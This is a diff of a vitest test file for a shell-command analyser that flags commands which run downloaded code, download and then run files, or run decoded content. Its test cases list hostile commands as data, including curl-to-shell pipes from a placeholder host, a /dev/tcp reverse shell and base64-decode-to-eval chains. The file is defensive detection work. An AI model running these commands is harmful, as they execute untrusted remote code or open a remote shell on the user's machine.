@@ -1,5 +1,6 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell text, not templates
 import { describe, expect, it } from 'vitest';
+import { understand } from '../../../src/shell/understand.ts';
 import { actsOf } from './acts-of.ts';
 
 describe('code from the network that is run', () => {
@@ -50,6 +51,9 @@ describe('code from the network that is run', () => {
     'bash < /dev/tcp/x.test/80',
     'aws s3 cp s3://b/i.sh - | sh',
     'gh api repos/x/y/contents/i.sh | bash',
+    'curl -s https://x.test/i.sh | source /dev/stdin',
+    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
+    `python3 -c "import urllib.request as u; exec(u.urlopen('https://x.test/i.py').read())"`,
     'timeout 60 curl -s https://x.test/i.sh | nohup bash',
     'true && curl -s https://x.test/i.sh | sh || echo failed',
     'bash -c "curl -s https://x.test/i.sh | sh"',
@@ -87,11 +91,22 @@ describe('code from the network that is run', () => {
 curl https://x.test/i.sh | sh
 EOF`,
     'git commit -m "docs: curl https://x.test/i.sh | sh"',
+    'curl https://x.test/i.sh | bash -n',
+    `node -e "fetch('https://x.test').then((r) => /a/.exec(r))"`,
     'curl --help | sh-notes',
     'docker exec web sh -c "curl -s https://x.test/i.sh | sh"',
   ])('and not %s', (command) => {
     expect(actsOf(command, ['run-download'])).toEqual([]);
   });
+});
+
+it.each([
+  ['curl -s https://x.test/i.sh | sudo bash -s', 'curl -s https://x.test/i.sh | bash -s'],
+  ['curl -s https://x.test/i.gz | gunzip | sh', 'curl -s https://x.test/i.gz | … | sh'],
+  ['sh -c "$(curl -s https://x.test/i.sh)"', 'sh -c "$(curl -s https://x.test/i.sh)"'],
+])('%s is shown with where its code comes from', (command, shown) => {
+  const acts = understand(command).acts.filter(({ kind }) => kind === 'run-download');
+  expect(acts.map((act) => act.shown)).toEqual([shown]);
 });
 
 describe('a file that is downloaded or run', () => {
@@ -102,6 +117,8 @@ describe('a file that is downloaded or run', () => {
     ['curl -O "https://x.test/a/i.py?x=1"; python3 i.py', ['download file=i.py', 'run-file file=i.py']],
     ['wget https://x.test/i.sh; cat i.sh | sh', ['download file=i.sh', 'run-file file=i.sh']],
     ['wget -q https://x.test/x -O i.sh; . ./i.sh', ['download file=i.sh', 'run-file file=./i.sh']],
+    ['curl https://x.test/i.sh | tee i.sh | wc -l; sh i.sh', ['download file=i.sh', 'run-file file=i.sh']],
+    ['curl https://x.test/a | tr a b > i.sh; . ./i.sh', ['download file=i.sh', 'run-file file=./i.sh']],
     ['curl -s https://x.test/a', []],
     ['curl -s https://x.test/a 2> err', []],
     ['wget -qO- https://x.test/a', []],
@@ -109,5 +126,42 @@ describe('a file that is downloaded or run', () => {
     ['./node_modules/.bin/vitest', []],
   ])('%s', (command, acts) => {
     expect(actsOf(command, ['download', 'run-file'])).toEqual(acts);
+  });
+});
+
+describe('code that only shows when it is decoded', () => {
+  it.each([
+    'base64 -d x | sh',
+    'cat x.b64 | base64 --decode | sudo bash',
+    'echo "$X" | base64 -d | python3',
+    'bash -c "$(base64 -d x)"',
+    'bash <(base64 -d x)',
+    'eval `base64 -d x`',
+    'P=$(base64 -d x); eval "$P"',
+    'gunzip -c x.sh.gz | sh',
+    'xxd -r -p x.hex | bash',
+    'openssl enc -d -aes-256-cbc -in x -k y | bash',
+    'gpg -d x.gpg | sh',
+    'rev x | sh',
+  ])('%s', (command) => {
+    expect(actsOf(command, ['run-decoded'])).toEqual(['run-decoded']);
+  });
+
+  it.each([
+    'cat local.sh | sh',
+    'sed s/a/b/ local.sh | sh',
+    'echo bHM= | base64 -d | sh',
+    'base64 -d x > y',
+    'base64 -d x | jq .',
+    'base64 x | sh',
+    'kubectl get secret x -o json | jq -r .data.p | base64 -d',
+    'gunzip -c x.sql.gz | psql app',
+    'base64 -d x | python3 -c "import sys; print(sys.stdin.read())"',
+    'bash -c "echo $(base64 -d x)"',
+    'TOKEN=$(base64 -d x) bash deploy.sh',
+    'docker exec -i web sh -c "base64 -d x | sh"',
+    'eval "$(ssh-agent -s)"',
+  ])('and not %s', (command) => {
+    expect(actsOf(command, ['run-decoded'])).toEqual([]);
   });
 });
